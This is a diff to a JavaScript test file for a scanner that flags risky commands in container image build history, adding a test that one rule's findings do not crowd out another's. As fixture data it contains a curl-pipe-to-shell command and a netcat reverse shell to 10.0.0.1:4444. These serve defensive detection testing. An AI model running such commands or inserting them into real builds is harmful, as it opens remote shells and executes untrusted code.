@@ -204,7 +204,14 @@ test('a history of many instructions that break many rules keeps a bounded numbe
   const history = image(Array.from({ length: 600 }, () => ({ createdBy: 'RUN sudo curl -k a' })));
   const { findings, problems } = findBuildCommandRisks(history, rules);
   expect(findings).toHaveLength(1024);
-  expect(problems).toEqual(['176 findings beyond the first 1024 are not kept']);
+  expect(problems).toEqual(['176 findings beyond the first 512 of a rule are not kept']);
+});
+
+test('findings of one rule push out none of another', () => {
+  const many = Array.from({ length: 2000 }, () => ({ createdBy: 'RUN curl https://x.example | sh' }));
+  const { findings } = findBuildCommandRisks(image([...many, { createdBy: 'RUN nc -e /bin/sh 10.0.0.1 4444' }]));
+  expect(findings).toContainEqual(expect.objectContaining({ rule: 'netcat-shell', index: 2000 }));
+  expect(findings.length).toBeLessThanOrEqual(1024);
 });
 
 test.each([
